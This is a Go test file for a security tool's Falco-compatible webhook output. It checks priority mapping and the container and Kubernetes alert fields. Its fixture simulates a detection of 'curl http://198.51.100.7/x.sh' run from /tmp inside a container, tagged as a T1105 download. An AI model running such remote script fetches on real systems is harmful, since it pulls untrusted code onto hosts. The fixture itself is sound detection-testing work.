package webhook

import (
	"bytes"
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
)

// sidekickFields are the top-level keys falcosidekick's FalcoPayload
// decodes (types/types.go); anything else would be ignored by it.
var sidekickFields = []string{"uuid", "output", "priority", "rule", "time", "output_fields", "source", "tags", "hostname"}

// falcoPriorities are the names falcosidekick parses (types/priority.go),
// case-insensitively; anything else becomes its "Default" and is refused.
var falcoPriorities = []string{"emergency", "alert", "critical", "error", "warning", "notice", "informational", "debug"}

// TestFalcoPayload posts real alerts to a server that decodes them the way
// falcosidekick does and applies its acceptance check: a known priority,
// a rule, a time, non-empty output and output_fields.
func TestFalcoPayload(t *testing.T) {
	rc := newReceiver(t, false, func(int64, *http.Request) int { return http.StatusOK })
	s, err := New(Options{URL: rc.srv.URL, Payload: PayloadFalco, BatchSize: 50, Hostname: "node-7"})
	if err != nil {
		t.Fatal(err)
	}
	uid := uint32(1000)
	ev := &event.Event{
		Time: time.Date(2024, 5, 1, 12, 0, 0, 5, time.UTC), Kind: event.KindNetConnect, Node: "node-7",
		Process: &event.Process{PID: 31, PPID: 30, UID: 0, AUID: &uid, Comm: "curl", Binary: "/usr/bin/curl",
			Args: []string{"curl", "http://198.51.100.7/x.sh"}, Cwd: "/tmp", ExecID: "abc",
			Container: &event.Container{ID: "3f2a9c", Runtime: "containerd", Name: "web", Image: "docker.io/library/nginx:1.25",
				Pod: &event.Pod{UID: "u-1", Name: "web-0", Namespace: "shop"}}},
		Parent:  &event.Process{PID: 30, Comm: "sh", Binary: "/bin/sh", Args: []string{"sh"}},
		Syscall: &event.Syscall{Name: "connect", Ret: 0},
		Network: &event.Network{Protocol: "tcp", Family: "inet", SAddr: "10.0.0.5", SPort: 40000, DAddr: "198.51.100.7", DPort: 80},
	}
	severities := []event.Severity{event.SeverityInfo, event.SeverityLow, event.SeverityMedium, event.SeverityHigh, event.SeverityCritical}
	for _, sev := range severities {
		al := &event.Alert{Time: ev.Time, Kind: event.KindAlert, Node: "node-7", Message: "download in container",
			Rule:   event.RuleRef{Name: "rule_" + string(sev), Severity: sev, Tags: []string{"network", "T1105"}, MITRE: []string{"T1105"}},
			Action: event.ActionAlert, Event: ev}
		if err := s.WriteAlert(al); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if len(rc.bodies) != len(severities) {
		t.Fatalf("%d requests, want one per alert (%d)", len(rc.bodies), len(severities))
	}
	wantPriority := map[string]string{"rule_info": "Informational", "rule_low": "Notice", "rule_medium": "Warning",
		"rule_high": "Error", "rule_critical": "Critical"}
	for _, body := range rc.bodies {
		var raw map[string]json.RawMessage
		if err := json.Unmarshal(body, &raw); err != nil {
			t.Fatalf("body is not one JSON object: %v: %s", err, body)
		}
		for k := range raw {
			if !slices.Contains(sidekickFields, k) {
				t.Errorf("field %q is not one falcosidekick reads", k)
			}
		}
		var p struct {
			Output       string         `json:"output"`
			Priority     string         `json:"priority"`
			Rule         string         `json:"rule"`
			Time         time.Time      `json:"time"`
			OutputFields map[string]any `json:"output_fields"`
			Source       string         `json:"source"`
			Tags         []string       `json:"tags"`
			Hostname     string         `json:"hostname"`
		}
		dec := json.NewDecoder(bytes.NewReader(body))
		dec.UseNumber() // as falcosidekick decodes
		if err := dec.Decode(&p); err != nil {
			t.Fatalf("decode as falcosidekick does: %v", err)
		}
		if !slices.Contains(falcoPriorities, strings.ToLower(p.Priority)) || p.Priority != wantPriority[p.Rule] {
			t.Errorf("%s: priority %q, want %q", p.Rule, p.Priority, wantPriority[p.Rule])
		}
		if p.Rule == "" || p.Time.IsZero() || p.Output == "" || len(p.OutputFields) == 0 {
			t.Errorf("falcosidekick would refuse: %s", body)
		}
		if !p.Time.Equal(ev.Time) || p.Source != "syscall" || p.Hostname != "node-7" || !slices.Equal(p.Tags, []string{"network", "T1105"}) {
			t.Errorf("envelope %+v", p)
		}
		for k, want := range map[string]any{
			"proc.name": "curl", "proc.exepath": "/usr/bin/curl", "proc.cmdline": "curl http://198.51.100.7/x.sh",
			"proc.pname": "sh", "container.id": "3f2a9c", "container.name": "web",
			"container.image.repository": "docker.io/library/nginx", "container.image.tag": "1.25",
			"k8s.ns.name": "shop", "k8s.pod.name": "web-0", "fd.name": "10.0.0.5:40000->198.51.100.7:80",
			"fd.rip": "198.51.100.7", "evt.type": "connect", "evt.hostname": "node-7",
		} {
			if got := p.OutputFields[k]; got != want {
				t.Errorf("output_fields[%q] = %v (%T), want %v", k, got, got, want)
			}
		}
		for _, k := range []string{"proc.pid", "proc.ppid", "user.uid", "user.loginuid", "evt.time", "fd.rport"} {
			if _, ok := p.OutputFields[k].(json.Number); !ok {
				t.Errorf("output_fields[%q] = %v (%T), want a number", k, p.OutputFields[k], p.OutputFields[k])
			}
		}
		if !strings.Contains(p.Output, "Error download in container") && p.Rule == "rule_high" {
			t.Errorf("output %q", p.Output)
		}
	}
}

// TestFalcoRefusesEvents: the falco payload has no shape for plain events.
func TestFalcoRefusesEvents(t *testing.T) {
	s, err := New(Options{URL: "http://127.0.0.1:1/", Payload: PayloadFalco})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Write(&event.Event{Kind: event.KindProcessExec}); err == nil {
		t.Fatal("an event was taken by the falco payload")
	}
	if r := s.Report(); r.Dropped != 1 {
		t.Errorf("dropped %d, want 1", r.Dropped)
	}
}

func TestOptionsAreChecked(t *testing.T) {
	for _, o := range []Options{
		{URL: "example.com/hook"},
		{URL: "ftp://example.com/"},
		{URL: "http:///path"},
		{URL: "http://h/", Payload: "splunk"},
		{URL: "http://h/", BearerToken: "t", Username: "u"},
		{URL: "https://h/", TLS: TLSOptions{CertFile: "c.pem"}},
		{URL: "https://h/", TLS: TLSOptions{CAFile: "/nonexistent/ca.pem"}},
	} {
		if _, err := New(o); err == nil {
			t.Errorf("New(%+v) accepted", o)
		}
	}
}

// TestFalcoContainerFields: container and pod fields are Falco's, with
// the short and full ids, the image cut at the right ':' and the pulled
// digest; a host process is Falco's "host".
func TestFalcoContainerFields(t *testing.T) {
	full := "3f2a9c41d8e7b6a5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1"
	alert := func(c *event.Container) map[string]any {
		ev := &event.Event{Time: time.Unix(1, 0), Kind: event.KindProcessExec,
			Process: &event.Process{PID: 7, Comm: "sh", Binary: "/bin/sh", Args: []string{"sh"}, Container: c}}
		return falcoAlert(&event.Alert{Time: ev.Time, Kind: event.KindAlert, Event: ev,
			Rule: event.RuleRef{Name: "r", Severity: event.SeverityHigh}}, "n1").OutputFields
	}
	for _, c := range []struct {
		name string
		c    *event.Container
		want map[string]any
		none []string
	}{
		{"pod", &event.Container{ID: full, Runtime: "containerd", Name: "api",
			Image: "registry.example.com:5000/shop/api:2.4.1", ImageDigest: "sha256:5d1e",
			Pod: &event.Pod{UID: "u-1", Name: "api-0", Namespace: "shop", Workload: &event.Workload{Kind: "StatefulSet", Name: "api"}}},
			map[string]any{"container.id": full[:12], "container.full_id": full, "container.name": "api", "container.type": "containerd",
				"container.image": "registry.example.com:5000/shop/api:2.4.1", "container.image.repository": "registry.example.com:5000/shop/api",
				"container.image.tag": "2.4.1", "container.image.digest": "sha256:5d1e", "k8s.ns.name": "shop", "k8s.pod.name": "api-0",
				"k8s.pod.uid": "u-1", "vigil.k8s.workload.kind": "StatefulSet", "vigil.k8s.workload.name": "api"}, nil},
		{"pinned by digest", &event.Container{ID: full, Image: "localhost:5000/x@sha256:abc"},
			map[string]any{"container.name": full[:12], "container.image.repository": "localhost:5000/x", "container.image.tag": "",
				"container.image.digest": "sha256:abc"}, []string{"k8s.ns.name", "k8s.pod.name"}},
		{"pod not known yet", &event.Container{ID: full, Pod: &event.Pod{UID: "u-2"}},
			map[string]any{"k8s.pod.uid": "u-2"}, []string{"k8s.ns.name", "k8s.pod.name", "container.image"}},
		{"host", &event.Container{ID: event.HostContainerID, Runtime: "host"},
			map[string]any{"container.id": "host", "container.full_id": "host", "container.name": "host"}, nil},
		{"unknown", nil, map[string]any{"container.id": "host", "container.full_id": "host"}, nil},
	} {
		f := alert(c.c)
		for k, want := range c.want {
			if got := f[k]; got != want {
				t.Errorf("%s: output_fields[%q] = %v, want %v", c.name, k, got, want)
			}
		}
		for _, k := range c.none {
			if got, ok := f[k]; ok {
				t.Errorf("%s: output_fields[%q] = %v, want it left out", c.name, k, got)
			}
		}
	}
}
